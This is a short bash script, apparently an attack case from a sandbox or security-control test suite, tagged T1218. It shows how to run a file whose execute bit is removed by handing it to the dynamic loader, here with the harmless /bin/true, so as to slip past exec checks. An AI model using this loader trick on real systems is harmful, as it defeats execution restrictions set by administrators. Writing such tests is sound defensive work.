#!/usr/bin/env bash
# attack: T1218 Execute a binary through the dynamic loader to evade exec checks
. "$(dirname "$0")/lib/common.sh"
ld=$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -1)
cp /bin/true "$SW/tool"
chmod -x "$SW/tool"
"$ld" "$SW/tool"
